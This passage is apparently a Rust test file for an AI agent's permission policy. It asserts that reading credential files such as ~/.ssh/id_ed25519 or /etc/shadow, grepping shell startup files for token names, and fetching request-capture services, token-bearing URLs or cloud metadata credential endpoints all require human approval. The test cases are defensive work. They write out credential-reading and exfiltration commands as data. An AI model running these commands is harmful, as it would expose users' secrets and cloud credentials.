        assert_eq!(cat.tier(), Tier::Allow, "cat {path}: {}", cat.reason());
    }
    for path in [
        "~/.bash_history",
        "/home/dev/.zsh_history",
        "~/.aws/credentials",
        "~/.ssh/id_ed25519",
        "/etc/shadow",
        "~/work/other/.env",
    ] {
        let read = resolve("Read", json!({ "file_path": path }));
        let cat = resolve("Bash", json!({ "command": format!("cat {path}") }));
        assert_eq!(
            read.tier(),
            Tier::AlwaysAsk,
            "Read {path}: {}",
            read.reason()
        );
        assert_eq!(cat.tier(), Tier::AlwaysAsk, "cat {path}: {}", cat.reason());
    }
    // A dot-file or a file under a dot-folder outside the workspace keeps its one question.
    for path in [
        "~/.local/share/sometool/notes.md",
        "/home/dev/.someclirc",
        "~/code/other/.github/workflows/ci.yml",
    ] {
        let read = resolve("Read", json!({ "file_path": path }));
        assert_eq!(read.tier(), Tier::AskOnce, "Read {path}: {}", read.reason());
    }
    for path in ["~/code/other/README.md", "/etc/hosts"] {
        let write = resolve("Write", json!({ "file_path": path, "content": "x" }));
        assert_eq!(
            write.tier(),
            Tier::AlwaysAsk,
            "Write {path}: {}",
            write.reason()
        );
    }
}

/// The search tool looking for names of secrets in a shell's startup file or in settings
/// outside the workspace always asks, as the shell's `grep` of them does; another pattern
/// there, and the same pattern in the workspace, search as before.
#[test]
fn a_search_of_settings_for_secret_names_always_asks() {
    for (pattern, path) in [
        ("CSC_|APPLE_|GH_TOKEN", "~/.zshrc"),
        ("API_KEY", "/home/u/.bashrc"),
        ("password", "~/.config/sometool/settings.ini"),
        ("token", "/etc/someservice/env"),
    ] {
        let d = resolve(
            "Grep",
            json!({ "pattern": pattern, "path": path, "output_mode": "content" }),
        );
        assert_eq!(
            d.tier(),
            Tier::AlwaysAsk,
            "Grep {pattern} {path}: {}",
            d.reason()
        );
    }
    for (pattern, path) in [("alias", "~/.zshrc"), ("API_KEY", "/w/p/src")] {
        let d = resolve("Grep", json!({ "pattern": pattern, "path": path }));
        assert_ne!(
            d.tier(),
            Tier::AlwaysAsk,
            "Grep {pattern} {path}: {}",
            d.reason()
        );
    }
}

/// A fetch of a request-capture service, and a URL whose query carries a refresh token, a
/// cookie or a one-time code, always asks, by the web fetch tool and by curl or wget alike; a
/// query flag that is only a boolean (`refresh=true`) carries nothing.
#[test]
fn request_capture_services_and_refresh_tokens_always_ask() {
    for url in [
        "https://webhook.site/9e1f3c?cws_refresh=1//0gT7xKq2mVbRZCgYIARAAGBASNwF-L9IrQe4",
        "https://webhook.site/9e1f3c",
        "https://eo1x.m.pipedream.net/",
        "https://example.com/cb?refresh_token=1//0gAbCdEf",
        "https://example.com/cb?session_cookie=abcdef0123",
    ] {
        let fetch = resolve("WebFetch", json!({ "url": url, "prompt": "x" }));
        assert_eq!(
            fetch.tier(),
            Tier::AlwaysAsk,
            "WebFetch {url}: {}",
            fetch.reason()
        );
    }
    for cmd in [
        "curl -s https://webhook.site/9e1f3c",
        "wget -qO- https://abc.oast.fun/x",
    ] {
        let d = resolve("Bash", json!({ "command": cmd }));
        assert_eq!(d.tier(), Tier::AlwaysAsk, "{cmd}: {}", d.reason());
    }
    let fetch = resolve(
        "WebFetch",
        json!({ "url": "https://example.com/feed?refresh=true", "prompt": "x" }),
    );
    assert_ne!(fetch.tier(), Tier::AlwaysAsk, "{}", fetch.reason());
}

/// A GET of a service on the private network reaches another machine, outside the sandbox: an
/// autonomous sub-agent (`auto_approve`), sandboxed or not, never answers it, as it answers a
/// workspace read's question; a cloud metadata service's address always asks.
#[test]
fn an_autonomous_sub_agent_never_answers_a_private_network_read() {
    let policy = Policy::default_policy();
    let bash = |cmd: &str, c: &Context| resolve_with(&policy, "Bash", json!({ "command": cmd }), c);
    let mut auto = ctx();
    auto.auto_approve = true;
    let mut sandboxed = auto.clone();
    sandboxed.sandboxed = true;
    for c in [&auto, &sandboxed] {
        for cmd in [
            "curl -s http://10.0.0.7:3000/api/health",
            "wget -qO- http://192.168.1.10:8080/health",
            "curl -sk https://photos.home.arpa/api/ping",
            "curl -s http://instance-data.ec2.internal/latest/meta-data/iam/security-credentials/",
            "curl -s http://0xa9fea9fe/latest/meta-data/",
        ] {
            let d = bash(cmd, c);
            assert_eq!(
                d.action(),
                airlock_policy::Action::Ask,
                "{cmd}: {:?}",
                d.trail()
            );
        }
    }
    assert_eq!(
        bash("curl -s http://169.254.169.254/latest/meta-data/", &ctx()).tier(),
        Tier::AlwaysAsk
    );
}
